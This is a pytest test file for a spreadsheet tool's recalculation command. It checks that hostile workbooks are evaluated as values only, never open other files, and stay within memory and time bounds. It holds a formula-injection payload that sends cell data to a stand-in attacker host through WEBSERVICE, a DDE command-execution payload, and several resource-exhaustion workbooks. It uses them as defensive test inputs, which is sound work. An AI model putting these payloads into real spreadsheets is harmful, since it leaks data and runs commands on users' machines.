"""Hostile workbooks given to `bcf-xl recalc`: values only, no other file opened, bounded work.

Every hostile file is built here, in the test's own folder. A case that could exhaust memory or
time runs the command in a subprocess under a memory limit and a timeout, and checks its exit
code, its one-line message, that the input is unchanged and that no copy is left behind.
"""

from __future__ import annotations

import os
import re
import subprocess
import tempfile
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from bcf_xl import cli, recalc
from bcf_xl.errors import BcfInputError
from bcf_xl.recalc import MAX_DEPTH, MAX_FORMULAS, MAX_RANGE_CELLS, recalculate, write_values
from bcf_xl.workbook.reading import MAX_CELL_CHARS
from tests import commands
from tests.commands import digest

MEMORY_LIMIT = 500 * 2**20
TIMEOUT = 120  # seconds: generous, the machine is shared; the work itself takes a few seconds
WORK_SECONDS = 10  # processor time a refusal may take (wall time on a shared machine measures the others too)
MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SECRET_NUMBER = 987654321
SECRET_TEXT = "TOP SECRET figures"
WEBSERVICE = '=WEBSERVICE("http://attacker.invalid/?leak="&A3)'
DDE = "=cmd|' /C calc'!A0"


def _as_text(cell: Any, text: str) -> None:
    """Store text that starts with "=" as text, as Excel does for a cell typed with a leading apostrophe."""
    cell.value = text
    cell.data_type = "s"


def _formula_elements(path: Path) -> list[str]:
    """The <f> elements of every worksheet of a saved workbook, read from its XML."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ElementTree.fromstring(archive.read(name))
                found += [f"{name}: {element.text}" for element in root.iter(f"{MAIN_NS}f")]
    return found


def _all_text(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def _run_recalc(workbook: Path, out: Path, temp: Path) -> subprocess.CompletedProcess[str]:
    """`bcf-xl recalc` in a subprocess limited to MEMORY_LIMIT of address space, with its own temp folder."""

    temp.mkdir(exist_ok=True)
    env = {**os.environ, "TMPDIR": str(temp), "OPENBLAS_NUM_THREADS": "1"}
    return commands.bcf_xl("recalc", workbook, "-o", out, cwd=Path.cwd(), memory=MEMORY_LIMIT, timeout=TIMEOUT, env=env)


def _assert_refused(path: Path, tmp_path: Path, message: str) -> None:
    """recalc of `path` under the memory limit exits 2 with exactly `message` within WORK_SECONDS of processor
    time, writes nothing, changes nothing."""
    before = digest(path)
    out = tmp_path / "values.xlsx"
    runs: list[subprocess.CompletedProcess[str]] = []
    seconds = commands.cpu_seconds(lambda: runs.append(_run_recalc(path, out, tmp_path / "temp")))
    [done] = runs
    assert (done.returncode, done.stderr, done.stdout) == (2, f"bcf-xl: {message}\n", "")
    assert seconds < WORK_SECONDS
    assert not out.exists()
    assert digest(path) == before
    assert list((tmp_path / "temp").iterdir()) == []


# --- values only -------------------------------------------------------------------------------


@pytest.fixture
def formula_text(tmp_path: Path) -> Path:
    """Text cells that look like formulas (a web call, a DDE payload) beside real formulas."""
    book = openpyxl.Workbook()
    inputs = book.active
    inputs.title = "Inputs"
    _as_text(inputs["A1"], WEBSERVICE)
    _as_text(inputs["A2"], DDE)
    inputs["A3"] = 5
    calc = book.create_sheet("Calc")
    calc["B1"] = '="="&"1+1"'  # a formula whose result is text starting with "="
    calc["B2"] = "=Inputs!A3*2"
    calc["B3"] = "=Inputs!A2"  # copies the DDE text: its result is that text, not a formula
    calc["B4"] = '=IF(Inputs!A3>1,"large","small")'
    path = tmp_path / "formula-text.xlsx"
    book.save(path)
    return path


def test_text_starting_with_equals_is_not_evaluated(formula_text: Path) -> None:
    """Only cells stored as formulas are evaluated: text that starts with "=" is no formula cell."""
    result = recalculate(formula_text)
    assert set(result.values) == {("Calc", "B1"), ("Calc", "B2"), ("Calc", "B3"), ("Calc", "B4")}
    assert result.values[("Calc", "B1")] == "=1+1"
    assert result.values[("Calc", "B2")] == 10
    assert result.values[("Calc", "B3")] == DDE
    assert result.values[("Calc", "B4")] == "large"
    assert not result.findings


def test_values_copy_holds_no_formula(formula_text: Path, tmp_path: Path) -> None:
    """The copy holds every result as a value, text results as text, and no <f> element at all."""
    before = digest(formula_text)
    out = tmp_path / "values.xlsx"
    write_values(recalculate(formula_text), out)
    assert _formula_elements(formula_text)  # the input did hold formulas
    assert _formula_elements(out) == []
    copy = openpyxl.load_workbook(out)
    cells = {
        (sheet, cell): (copy[sheet][cell].value, copy[sheet][cell].data_type)
        for sheet, cell in [("Inputs", "A1"), ("Inputs", "A2"), ("Calc", "B1"), ("Calc", "B2"), ("Calc", "B3")]
    }
    assert cells == {
        ("Inputs", "A1"): (WEBSERVICE, "s"),
        ("Inputs", "A2"): (DDE, "s"),
        ("Calc", "B1"): ("=1+1", "s"),
        ("Calc", "B2"): (10, "n"),
        ("Calc", "B3"): (DDE, "s"),
    }
    assert digest(formula_text) == before


def test_a_formula_openpyxl_does_not_hold_as_text_never_reaches_the_copy(tmp_path: Path) -> None:
    """A data-table formula cannot be evaluated: it is reported at its cell and the copy holds #N/A, not <f>."""
    from openpyxl.worksheet.formula import DataTableFormula

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Table"
    sheet["A1"] = 2
    sheet["B2"] = DataTableFormula(ref="B2:B3", dt2D=False, dtr=False, r1="A1")
    sheet["C1"] = "=A1+1"
    path = tmp_path / "table.xlsx"
    book.save(path)
    result = recalculate(path)
    assert [(f.code, str(f.location)) for f in result.findings] == [("RECALC01", "'Table'!B2")]
    assert "is a data table" in result.findings[0].message
    out = tmp_path / "values.xlsx"
    write_values(result, out)
    assert _formula_elements(out) == []
    assert openpyxl.load_workbook(out)["Table"]["C1"].value == 3


# --- no other file is opened ----------------------------------------------------------------------


def _secret(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    book = openpyxl.Workbook()
    data = book.active
    data.title = "Data"
    data["A1"] = SECRET_NUMBER
    data["A2"] = SECRET_TEXT
    path = folder / "secret.xlsx"
    book.save(path)
    return path


@pytest.fixture
def linked(tmp_path: Path) -> Path:
    """A workbook whose formulas name another workbook in every way Excel writes one, the other file present."""
    work = tmp_path / "work"
    _secret(work)
    elsewhere = _secret(tmp_path / "x")
    book = openpyxl.Workbook()
    calc = book.active
    calc.title = "Calc"
    calc["B1"] = "='[secret.xlsx]Data'!A1"
    calc["B2"] = "='../x/[secret.xlsx]Data'!A2"
    calc["B3"] = f"='{elsewhere.parent}/[secret.xlsx]Data'!A1"
    calc["B4"] = "=Secret*2"
    calc["B5"] = "=[1]Data!A1"
    calc["B6"] = "=B7+1"
    calc["B7"] = "=SUM(1,2)"
    calc["B8"] = "=B1+1"
    book.defined_names["Secret"] = DefinedName("Secret", attr_text="'[secret.xlsx]Data'!$A$1")
    path = work / "linked.xlsx"
    book.save(path)
    return path


def test_references_to_other_workbooks_are_reported_and_left_unevaluated(linked: Path, tmp_path: Path) -> None:
    """Each formula naming another workbook is an error at its cell, valued #REF!; the other file never shows."""
    before = digest(linked)
    result = recalculate(linked)
    assert [(f.code, f.location.cell) for f in result.findings if f.code == "RECALC03"] == [
        ("RECALC03", cell) for cell in ["B1", "B2", "B3", "B4", "B5"]
    ]
    assert "refers to another workbook ('[secret.xlsx]Data'!A1), which bcf-xl never opens" in str(result.findings[0])
    assert [result.values[("Calc", f"B{row}")] for row in range(1, 6)] == ["#REF!"] * 5
    assert result.values[("Calc", "B6")] == 4  # formulas of the workbook itself still evaluate
    assert [(f.code, f.location.cell) for f in result.findings if f.code == "RECALC02"] == [("RECALC02", "B8")]
    out = tmp_path / "values.xlsx"
    write_values(result, out)
    text = _all_text(out)
    assert str(SECRET_NUMBER) not in text
    assert SECRET_TEXT not in text
    assert "secret.xlsx" not in text  # the defined name that pointed there is gone too
    assert _formula_elements(out) == []
    assert digest(linked) == before


def test_the_engine_itself_refuses_a_second_workbook(linked: Path) -> None:
    """The engine model recalc uses loads one workbook only: a reference that reached it would stay #REF!.

    The same workbook in the engine's own model reads the other file (the check below proves the
    case is real), so this guard holds even if a reference ever slipped past the check above it.
    """
    import formulas

    def values(model: Any) -> dict[str, object]:
        solution = model.loads(str(linked)).finish().calculate()
        return {str(key).rpartition("!")[2]: value.value[0][0] for key, value in solution.items() if "]CALC'!" in key}

    model_class, _, _ = recalc._engine()
    assert values(formulas.ExcelModel())["B1"] == SECRET_NUMBER  # the engine alone would read it
    guarded = values(model_class())
    assert str(guarded["B1"]) == "#REF!"
    assert str(guarded["B2"]) == "#REF!"


def test_a_fifo_named_as_the_other_workbook_does_not_hang(tmp_path: Path) -> None:
    """A FIFO named by a reference is never opened: recalc finishes, reports the cells and exits 1."""
    work = tmp_path / "work"
    work.mkdir()
    fifo = work / "fifo.xlsx"
    os.mkfifo(fifo)
    book = openpyxl.Workbook()
    calc = book.active
    calc.title = "Calc"
    calc["A1"] = "='[fifo.xlsx]Data'!A1"
    calc["A2"] = f"='{work}/[fifo.xlsx]Data'!A1"
    calc["A3"] = "=1+1"
    path = work / "plan.xlsx"
    book.save(path)
    before = digest(path)
    out = work / "values.xlsx"
    done = _run_recalc(path, out, tmp_path / "temp")
    assert done.returncode == 1, done.stderr
    assert "Error RECALC03 'Calc'!A1: refers to another workbook" in done.stdout
    assert "Error RECALC03 'Calc'!A2: refers to another workbook" in done.stdout
    assert openpyxl.load_workbook(out)["Calc"]["A3"].value == 2
    assert digest(path) == before
    assert list((tmp_path / "temp").iterdir()) == []


# --- bounded work ------------------------------------------------------------------------------


def _chain(path: Path, length: int, *, downwards: bool = True) -> Path:
    """A column of `length` formulas, each adding 1 to the one before it (above, or below when not downwards)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Chain"
    if downwards:
        sheet["A1"] = 1
        for row in range(2, length + 2):
            sheet.cell(row, 1, f"=A{row - 1}+1")
    else:
        sheet.cell(length + 1, 1, 1)
        for row in range(1, length + 1):
            sheet.cell(row, 1, f"=A{row + 1}+1")
    book.save(path)
    return path


def test_a_chain_as_long_as_the_limit_is_evaluated(tmp_path: Path) -> None:
    """A chain of exactly MAX_DEPTH formulas is within bounds and evaluates to the right end value."""
    result = recalculate(_chain(tmp_path / "chain.xlsx", MAX_DEPTH))
    assert result.values[("Chain", f"A{MAX_DEPTH + 1}")] == MAX_DEPTH + 1
    assert not result.findings


def test_one_formula_more_than_the_depth_limit_is_refused(tmp_path: Path) -> None:
    """A chain one formula longer than MAX_DEPTH is refused, naming the cell at its head."""
    with pytest.raises(BcfInputError) as caught:
        recalculate(_chain(tmp_path / "chain.xlsx", MAX_DEPTH + 1))
    assert str(caught.value) == (
        f"'Chain'!A{MAX_DEPTH + 2}: heads a chain of more than {MAX_DEPTH} formulas, "
        "each depending on the next, longer than bcf-xl evaluates"
    )


@pytest.mark.parametrize(("length", "downwards", "head"), [(50_000, True, "A202"), (100_000, False, "A1")])
def test_a_long_chain_is_refused_within_memory_and_time(
    tmp_path: Path, length: int, downwards: bool, head: str
) -> None:
    """A 50,000 or 100,000-cell chain (either direction) is refused: exit 2, one line, nothing left behind."""
    _assert_refused(
        _chain(tmp_path / "chain.xlsx", length, downwards=downwards),
        tmp_path,
        f"'Chain'!{head}: heads a chain of more than {MAX_DEPTH} formulas, "
        "each depending on the next, longer than bcf-xl evaluates",
    )


def _big_range_book(path: Path, case: str) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = 1
    if case == "whole sheet":
        sheet["B1"] = "=SUM(A1:XFD1048576)"
    elif case == "whole column":
        sheet["B1"] = "=SUM(Calc!A:A)"
    elif case == "row beyond the sheet":
        sheet["B1"] = "=SUM(A1:A2000000000)"
    elif case == "defined name":
        book.defined_names["Everything"] = DefinedName("Everything", attr_text="Calc!$A$1:$XFD$1048576")
        sheet["B1"] = "=SUM(Everything)"
    else:
        sheet["B1"] = ArrayFormula("B1:XFD1048576", "=A1*2")
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("case", "cells", "got"),
    [
        ("whole sheet", 16_384 * 1_048_576, "A1:XFD1048576"),
        ("whole column", 1_048_576, "Calc!A:A"),
        ("row beyond the sheet", 2_000_000_000, "A1:A2000000000"),
        ("defined name", 16_384 * 1_048_576, "Calc!$A$1:$XFD$1048576"),
        ("array formula", 16_383 * 1_048_576, "B1:XFD1048576"),
    ],
)
def test_a_huge_range_is_refused_within_memory_and_time(tmp_path: Path, case: str, cells: int, got: str) -> None:
    """A range beyond MAX_RANGE_CELLS, however it is written, is refused at its cell: exit 2, one line."""
    _assert_refused(
        _big_range_book(tmp_path / "big.xlsx", case),
        tmp_path,
        f"'Calc'!B1: {'is an array formula filling' if case == 'array formula' else 'refers to'} "
        f"{cells:,} cells in one range, more than the {MAX_RANGE_CELLS:,} "
        f'bcf-xl evaluates (got "{got}")',
    )


def test_too_many_formula_cells_are_refused(tmp_path: Path) -> None:
    """Array formulas filling more than MAX_FORMULAS cells in all are refused, naming the file: exit 2."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Many"
    rows = MAX_RANGE_CELLS // 4
    for column in range(1, MAX_FORMULAS // rows + 2):
        letter = openpyxl.utils.get_column_letter(column)
        sheet.cell(1, column, ArrayFormula(f"{letter}1:{letter}{rows}", "=1"))
    path = tmp_path / "many.xlsx"
    book.save(path)
    _assert_refused(
        path, tmp_path, f"'many.xlsx': holds more than {MAX_FORMULAS:,} formula cells, the most bcf-xl evaluates"
    )


# --- no copy left behind, short messages -------------------------------------------------------------


def test_engine_failure_leaves_no_copy_in_the_temp_folder(
    formula_text: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If the engine fails (here: out of memory while reading), the error is one line and the temp copy is gone."""
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    _, registry, to_cell = recalc._engine()
    seen: list[Path] = []

    class Failing:
        def loads(self, filename: str) -> None:
            seen.append(Path(filename))
            assert Path(filename).is_file()
            raise MemoryError

    monkeypatch.setattr(recalc, "_engine", lambda: (Failing, registry, to_cell))
    with pytest.raises(BcfInputError, match=r"^'formula-text.xlsx': the formula engine could not evaluate"):
        recalculate(formula_text)
    assert seen and not seen[0].exists()
    assert list(temp.iterdir()) == []


def test_a_successful_recalculation_leaves_no_copy(
    formula_text: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The copy the engine reads is removed once it is read, also when all goes well."""
    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    assert recalculate(formula_text).values[("Calc", "B2")] == 10
    assert list(temp.iterdir()) == []


def test_a_long_formula_is_quoted_short_on_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A finding quotes at most 80 characters of a formula, with an ellipsis, and no raw line break."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = "=FOOBAR(" + "1,\n" * 5000 + "1)"
    path = tmp_path / "long.xlsx"
    book.save(path)
    assert cli.main(["recalc", str(path), "-o", str(tmp_path / "out.xlsx")]) == 1
    [line] = [line for line in capsys.readouterr().out.splitlines() if "RECALC01" in line]
    quoted = re.search(r"cannot evaluate: (.*)$", line)
    assert quoted is not None
    assert quoted[1].startswith("=FOOBAR(1,\\n1,\\n")
    assert quoted[1].endswith("\u2026")
    assert len(quoted[1]) == 80


@pytest.mark.parametrize("formula", ["=SUM(MUNIT(100000))", "=_xlfn.MUNIT(20000)", "=MAKEARRAY(100000,100000,1)"])
def test_a_function_that_builds_an_array_of_any_size_is_not_run(tmp_path: Path, formula: str) -> None:
    """MUNIT and MAKEARRAY, whose result is as large as an argument asks, are reported and never evaluated."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = formula
    sheet["A2"] = "=A1+1"
    sheet["A3"] = "=2*3"
    path = tmp_path / "sized.xlsx"
    book.save(path)
    done = _run_recalc(path, tmp_path / "values.xlsx", tmp_path / "temp")
    assert done.returncode == 1, done.stderr
    assert "Error RECALC01 'Calc'!A1: uses " in done.stdout
    assert "which bcf-xl cannot evaluate" in done.stdout
    assert "Warning RECALC02 'Calc'!A2: evaluates to #NAME?" in done.stdout
    values = openpyxl.load_workbook(tmp_path / "values.xlsx")["Calc"]
    assert (values["A1"].value, values["A3"].value) == ("#NAME?", 6)


def _with_far_row(path: Path, row: int) -> None:
    """Move the sheet's row 7 to `row` in the saved XML (openpyxl itself will not write a row beyond Excel's)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = sheet.replace('r="7"', f'r="{row}"').replace('r="A7"', f'r="A{row}"').encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


@pytest.mark.parametrize(
    ("row", "column", "message"),
    [
        (
            1_048_576,
            16_384,
            f"'Calc': its cells reach XFD1048576, a block of {16_384 * 1_048_576:,} cells, "
            "more than the 1,000,000 bcf-xl evaluates",
        ),
        (
            2_000_000_000,
            1,
            "'Calc': its cells reach A2000000000, a block of 2,000,000,000 cells, "
            "more than the 1,000,000 bcf-xl evaluates",
        ),
    ],
)
def test_one_far_cell_is_refused_within_memory_and_time(tmp_path: Path, row: int, column: int, message: str) -> None:
    """A small file with one cell far out (the sheet's corner, or a row beyond Excel's) is refused: exit 2."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = "=1+1"
    if row <= 1_048_576:
        sheet.cell(row, column, 1)
    else:
        sheet["A7"] = 1
    path = tmp_path / "far.xlsx"
    book.save(path)
    if row > 1_048_576:
        _with_far_row(path, row)
    _assert_refused(path, tmp_path, message)


# --- what openpyxl's full loader would expand, refused before it runs ---------------------------------------


def _edited(path: Path, edit: Any, extra: dict[str, bytes] | None = None) -> Path:
    """The workbook with its first sheet's XML passed through `edit` (and parts added)."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = edit(parts["xl/worksheets/sheet1.xml"].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**parts, **(extra or {})}.items():
            archive.writestr(name, data)
    return path


def _small(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = 20
    sheet["B1"] = "=A1+1"
    book.save(path)
    return path


_WHOLE_SHEET = 16_384 * 1_048_576


@pytest.mark.parametrize(
    ("record", "message"),
    [
        (
            '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            f"its merged ranges cover {_WHOLE_SHEET:,} cells, more than the 1,000,000 bcf-xl evaluates",
        ),
        (
            '<hyperlinks><hyperlink ref="A1:XFD1048576" location="\'Calc\'!A1" display="x"/></hyperlinks>',
            f"its hyperlinks cover {_WHOLE_SHEET:,} cells, more than the {recalc.MAX_LINKED_CELLS:,} bcf-xl reads",
        ),
    ],
)
def test_a_merge_or_hyperlink_over_a_whole_sheet_is_refused_before_loading(
    tmp_path: Path, record: str, message: str
) -> None:
    """A merged range or hyperlink over a whole sheet (which openpyxl would make a cell object for, cell by cell)
    is refused naming the sheet and the limit: exit 2, one line, within memory and time."""
    path = _edited(_small(tmp_path / "whole.xlsx"), lambda xml: xml.replace("</sheetData>", "</sheetData>" + record))
    _assert_refused(path, tmp_path, f"'Calc': {message} (got \"A1:XFD1048576\")")


def test_cells_and_merged_cells_beyond_the_workbook_limit_are_refused(tmp_path: Path) -> None:
    """Merged ranges each within a sheet's limit, but more cells than MAX_CELLS in all, are refused naming the
    file."""
    book = openpyxl.Workbook()
    for index in range(3):
        sheet = book.active if index == 0 else book.create_sheet()
        sheet.title = f"S{index}"
        sheet["B1"] = "=1+1"
    path = tmp_path / "merged.xlsx"
    book.save(path)
    # Each sheet as openpyxl writes it after merge_cells("A2:A200001"): an empty row for each row of the range and
    # the merged range after the cells. (openpyxl itself takes most of a minute to make the 600,000 cell objects.)
    rows = "".join(f'<row r="{row}"></row>' for row in range(2, 200_002))
    merged = '<mergeCells count="1"><mergeCell ref="A2:A200001" /></mergeCells>'
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for index in range(1, 4):
        xml = parts[f"xl/worksheets/sheet{index}.xml"].decode()
        assert '<dimension ref="B1:B1" />' in xml and "</row></sheetData>" in xml, xml
        xml = xml.replace('<dimension ref="B1:B1" />', '<dimension ref="A1:B200001" />')
        parts[f"xl/worksheets/sheet{index}.xml"] = xml.replace("</sheetData>", rows + "</sheetData>" + merged).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    _assert_refused(
        path,
        tmp_path,
        f"'merged.xlsx': holds more than {recalc.MAX_CELLS:,} cells (each cell of a merged range counted), "
        "the most bcf-xl evaluates",
    )


def test_a_dimension_claiming_the_whole_sheet_is_not_believed(tmp_path: Path) -> None:
    """A dimension record claiming A1:XFD1048576 is never read: the workbook is evaluated as it is (exit 0)."""
    path = _edited(
        _small(tmp_path / "claim.xlsx"),
        lambda xml: re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', xml),
    )
    assert 'ref="A1:XFD1048576"' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    before = digest(path)
    done = _run_recalc(path, tmp_path / "values.xlsx", tmp_path / "temp")
    assert (done.returncode, done.stderr) == (0, "")
    assert openpyxl.load_workbook(tmp_path / "values.xlsx")["Calc"]["B1"].value == 21
    assert digest(path) == before


def test_a_cell_text_beyond_the_limit_is_refused_with_its_cell(tmp_path: Path) -> None:
    """A cell holding more text than a cell may hold (shared or inline) is refused naming its cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = "=1+1"
    sheet["C7"] = "x" * (MAX_CELL_CHARS + 1)
    path = tmp_path / "text.xlsx"
    book.save(path)
    _assert_refused(
        path,
        tmp_path,
        f"'Calc'!C7: holds {MAX_CELL_CHARS + 1:,} characters of text, more than the 10,000 a cell may hold",
    )


def _shared_chain(path: Path, length: int) -> Path:
    """A column of `length` formulas each adding 1 to the one above, written as Excel fills down: one shared formula."""
    _chain(path, 1)
    first, rest = f'<f t="shared" si="0" ref="A2:A{length + 1}">A1+1</f>', '<f t="shared" si="0"/>'
    cells = "".join(
        f'<row r="{row}"><c r="A{row}">{first if row == 2 else rest}</c></row>' for row in range(2, length + 2)
    )
    return _edited(path, lambda xml: re.sub(r'<row r="2">.*?</row>', cells, xml, count=1, flags=re.DOTALL))


def test_a_chain_written_as_one_shared_formula_is_refused_before_loading(tmp_path: Path) -> None:
    """The chain is measured from the formula text before openpyxl loads the file, shared formulas included."""
    path = _shared_chain(tmp_path / "shared.xlsx", 50_000)
    with pytest.raises(BcfInputError, match=r"^'Chain'!A202: heads a chain of more than 200 formulas"):
        recalc.survey(path)
    _assert_refused(
        path,
        tmp_path,
        f"'Chain'!A202: heads a chain of more than {MAX_DEPTH} formulas, each depending on the next, "
        "longer than bcf-xl evaluates",
    )


def test_a_shared_formula_within_bounds_evaluates_as_filled_down(tmp_path: Path) -> None:
    """A shared formula is read cell by cell as Excel fills it down: a chain of 150 ends at 151."""
    result = recalculate(_shared_chain(tmp_path / "shared.xlsx", 150))
    assert result.values[("Chain", "A151")] == 151
    assert not result.findings


def test_a_formula_on_a_chart_sheet_is_reported(tmp_path: Path) -> None:
    """A formula referring to a chart sheet is reported as such at its cell and left #REF!; the rest evaluates."""
    from openpyxl.chart import BarChart, Reference

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Calc"
    sheet["A1"] = 3
    sheet["B1"] = "=Income!A1+1"
    sheet["B2"] = "=A1*2"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=1))
    book.create_chartsheet("Income").add_chart(chart)
    path = tmp_path / "chart.xlsx"
    book.save(path)
    result = recalculate(path)
    assert [str(finding) for finding in result.findings] == [
        "Error RECALC04 'Calc'!B1: refers to 'Income', a chart sheet, not a worksheet of cells: left as #REF!"
    ]
    assert (result.values[("Calc", "B1")], result.values[("Calc", "B2")]) == ("#REF!", 6)
